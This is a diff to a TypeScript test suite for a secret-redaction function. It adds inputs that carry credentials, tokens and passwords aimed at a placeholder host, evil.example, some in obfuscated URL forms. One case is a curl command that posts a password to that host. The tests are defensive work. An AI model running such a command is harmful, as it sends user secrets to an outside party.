@@ -23,6 +23,18 @@ describe('a text without its secrets', () => {
       'From https://a.example/x to https://b.example/… bad',
     ],
     [`xoxb-${'123456789012-'.repeat(2)}abcdefghij`, '(it holds a token of Slack)'],
+    ["https://bob:hunter'2@evil.example/a", 'https://evil.example/…'],
+    ['"https://bob:hunter"2@evil.example/a"', 'https://evil.example/…'],
+    ['https:/bob:hunter2@evil.example/a', 'https://evil.example/…'],
+    ['https:bob:hunter2@evil.example/a', 'https://evil.example/…'],
+    ['hxxp__bob:hunter2@evil.example/a', 'http://evil.example/…'],
+    ['evil.example/a?token=0123456789abcdef0123456789', 'http://evil.example/…'],
+    ['GET evil[.]example/?password=hunter2 HTTP/1.1', 'GET http://evil.example/… HTTP/1.1'],
+    ['curl -d password=hunter2 evil.example', '(it holds a secret)'],
+    ['{"host":"evil.example","apiKey":"hunter2"}', '(it holds a secret)'],
+    ['bob@evil.example wrote: a=b, "c": 1', 'bob@evil.example wrote: a=b, "c": 1'],
+    ['Password reset: evil.example/a?page=2', 'Password reset: evil.example/a?page=2'],
+    [String.raw`C:\\Users\bob\a.exe`, String.raw`C:\\Users\bob\a.exe`],
     ['', ''],
   ] as const) {
     it(`is ${JSON.stringify(shown)} of ${JSON.stringify(text)}`, () => {
